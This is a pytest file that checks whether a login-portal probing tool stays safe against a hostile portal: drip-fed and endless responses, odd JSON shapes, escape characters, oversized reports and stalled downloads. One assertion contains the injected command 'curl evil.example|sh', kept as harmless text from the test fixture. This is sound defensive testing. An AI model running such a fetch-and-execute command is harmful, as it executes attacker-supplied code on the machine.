"""A hostile portal (or an unlucky one): what it shows, sends or withholds must not harm probe.

Fast tier: the reachability check and the outbox reader against raw servers on port 0
in a thread, the report writers on recorded observations, the journey's deadlines with
a stand-in for Playwright's download. The browser test (the whole journey against a
portal that echoes the typed password) is in test_hostile_portal_browser.py.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import threading
import xml.dom.minidom
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, cast

import pytest
from playwright.async_api import BrowserContext, Page

from probe._util import loops
from probe.app import console, portal_choice
from probe.description.target import Target, Timeouts
from probe.errors import PortalFailure
from probe.journey.codes.outbox import latest_code
from probe.journey.credentials import Credentials
from probe.journey.login import Journey
from probe.journey.observation import Recorder
from probe.models import Report, VariantRun
from probe.report import github_summary, write_junit, write_report
from tests.helpers.hostile_portal import ESCAPES, IDENTIFIER, MOCK_PAGES, PASSWORD
from tests.helpers.report_examples import extension_report

# ------------------------------------------------------------------ servers on port 0


@contextlib.contextmanager
def raw_server(handle: Callable[[socket.socket], None]) -> Iterator[int]:
    """A TCP server on 127.0.0.1:0 calling ``handle`` per connection; yields the port."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            with connection, contextlib.suppress(OSError):
                handle(connection)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield int(listener.getsockname()[1])
    finally:
        stop.set()
        thread.join()
        listener.close()


@contextlib.contextmanager
def json_server(payload: str) -> Iterator[str]:
    """An HTTP server on port 0 answering ``payload`` as JSON to every GET; yields its URL."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            body = payload.encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/outbox"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


# ------------------------------------------------------------------ B7: reachability


def test_the_reachability_check_gives_up_on_a_portal_that_drips_its_answer(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """One byte every 0.2 s keeps each read within httpx's read timeout, forever."""
    monkeypatch.setattr(portal_choice, "REACHABLE_DEADLINE_S", 1.0)
    stopped = threading.Event()

    def drip(connection: socket.socket) -> None:
        connection.recv(65536)
        for byte in b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 10_000:
            if stopped.is_set():
                return
            connection.sendall(bytes([byte]))
            stopped.wait(0.2)

    with raw_server(drip) as port:
        url = f"http://127.0.0.1:{port}/connexion"
        try:
            with pytest.raises(PortalFailure, match="did not answer within 1 s"):
                portal_choice.check_reachable(url)
        finally:
            stopped.set()


def test_the_reachability_check_does_not_read_an_endless_page() -> None:
    """The old check read the whole body into memory; an endless one exhausted it."""
    limit = 64 * 1024 * 1024
    sent = [0]

    def endless(connection: socket.socket) -> None:
        connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n")
        chunk = b"A" * 65536
        while sent[0] < limit:
            connection.sendall(chunk)
            sent[0] += len(chunk)

    with raw_server(endless) as port:
        portal_choice.check_reachable(f"http://127.0.0.1:{port}/connexion")
    # What the kernel's socket buffers took before probe hung up, not the whole stream.
    assert sent[0] < limit // 4, f"{sent[0]} bytes were read"


# ------------------------------------------------------------------ B8: outbox shapes


@pytest.mark.parametrize(
    "payload",
    ["[]", "42", '"text"', "null", '{"messages": 5}', '{"messages": [1, "x", null]}'],
)
def test_an_outbox_answering_another_json_shape_means_no_code_with_a_note(payload: str) -> None:
    with json_server(payload) as url:
        found = loops.run(latest_code(url, since=0.0, timeout=0.3))
    assert found.code is None
    if payload != '{"messages": [1, "x", null]}':
        assert found.note is not None and found.note.key == "detail.outbox-unexpected-shape"


def test_an_outbox_in_the_expected_shape_still_yields_its_code() -> None:
    payload = json.dumps(
        {"messages": [{"body": "Votre code : 482913", "sent_at": "2099-01-01T00:00:00"}]}
    )
    with json_server(payload) as url:
        found = loops.run(latest_code(url, since=0.0, timeout=0.3))
    assert found.code == "482913"
    assert found.note is None


# ------------------------------------------------------------------ B6: what reports keep


def _hostile_report(message: str, console_errors: list[str]) -> Report:
    report = extension_report()
    run = report.variants[0]
    step = run.steps[-1].model_copy(
        update={"message": message, "console_errors": console_errors, "outcome": "fail"}
    )
    hostile = run.model_copy(
        update={
            "message": message,
            "outcome": "fail",
            "failed_step": step.name,
            "steps": [*run.steps[:-1], step],
        }
    )
    return report.model_copy(update={"variants": [hostile, *report.variants[1:]]})


def test_junit_stays_well_formed_when_the_portal_sends_control_characters(
    tmp_path: Path,
) -> None:
    report = _hostile_report(f"Bienvenue {ESCAPES}", [f"Uncaught {ESCAPES}"])
    path = tmp_path / "junit.xml"
    write_junit([report], path)
    document = xml.dom.minidom.parse(str(path))  # the old file did not parse
    text = path.read_text(encoding="utf-8")
    assert "\x1b" not in text and "\x00" not in text
    assert "probe: run curl evil.example|sh" in text  # the words stay, harmless
    assert document.documentElement is not None
    assert document.documentElement.tagName == "testsuites"


def test_report_files_and_job_summary_carry_no_escape_sequence(tmp_path: Path) -> None:
    report = _hostile_report(f"Bienvenue {ESCAPES}", [ESCAPES])
    write_report(report, tmp_path / "report")
    for name in ("report.json", "index.html"):
        assert "\\u001b" not in (tmp_path / "report" / name).read_text(encoding="utf-8")
        assert "\x1b" not in (tmp_path / "report" / name).read_text(encoding="utf-8")
    assert "\x1b" not in github_summary(report)


def test_a_huge_message_and_many_console_errors_make_a_small_report(tmp_path: Path) -> None:
    """10 MB of message and 25 x 2 MB of console errors gave a 115 MB report.json."""
    report = _hostile_report("A" * 10_000_000, ["B" * 2_000_000] * 25)
    write_report(report, tmp_path / "report")
    size = (tmp_path / "report" / "report.json").stat().st_size
    assert size < 1_000_000, f"report.json is {size} bytes"
    saved = json.loads((tmp_path / "report" / "report.json").read_text(encoding="utf-8"))
    message = saved["variants"][0]["message"]
    assert message.startswith("AAAA") and "more characters not kept" in message


def test_the_terminal_line_of_a_run_carries_no_escape_sequence(
    capsys: pytest.CaptureFixture[str],
) -> None:
    run = VariantRun(
        name="current",
        outcome="fail",
        symptom="page-error",
        failed_step="account-home",
        message=f"Mot de passe accepté {ESCAPES}",
    )
    console.LiveProgress().finished(run)  # not a terminal here: Rich adds no colours
    printed = capsys.readouterr().err
    assert "\x1b" not in printed and "\x07" not in printed
    assert "Mot de passe accepté" in printed


# ------------------------------------------------------------------ B7: journey deadlines


class _EndlessDownload:
    """Playwright's ``Download`` whose ``path()`` never returns (the portal keeps sending)."""

    suggested_filename = "attestation.pdf"

    def __init__(self) -> None:
        self.cancelled = False

    async def path(self) -> Path:
        await asyncio.Event().wait()
        raise AssertionError("unreachable")

    async def cancel(self) -> None:
        self.cancelled = True


def _journey(timeouts: Timeouts) -> Journey:
    target = Target(url="http://127.0.0.1:9/", sites=("127.0.0.1",), pagemap=MOCK_PAGES)
    # The deadlines are probe's own: no browser is needed to see them act.
    return Journey(
        cast(BrowserContext, None), target, Credentials(IDENTIFIER, PASSWORD), timeouts=timeouts
    )


def test_an_endless_attestation_download_is_stopped_at_its_deadline() -> None:
    journey = _journey(Timeouts(download=300))
    download = _EndlessDownload()

    async def wait() -> str:
        try:
            await journey._finished_download(cast(Any, download))
        except Exception as failure:
            return str(failure)
        return "finished"

    assert "did not finish downloading within 0.3 s" in loops.run(wait())
    assert download.cancelled


def test_a_step_that_never_ends_is_stopped_at_probe_s_deadline() -> None:
    journey = _journey(Timeouts(step=300))

    async def forever(page: Page, recorder: Recorder) -> None:
        await asyncio.Event().wait()
        return None

    async def run() -> str:
        try:
            await journey._within_deadline(
                "account-home", forever, cast(Page, None), cast(Recorder, None)
            )
        except Exception as failure:
            return f"{getattr(failure, 'symptom', '?')}: {failure}"
        return "finished"

    assert loops.run(run()) == "timeout: This step did not finish within 0.3 s; probe stopped it."
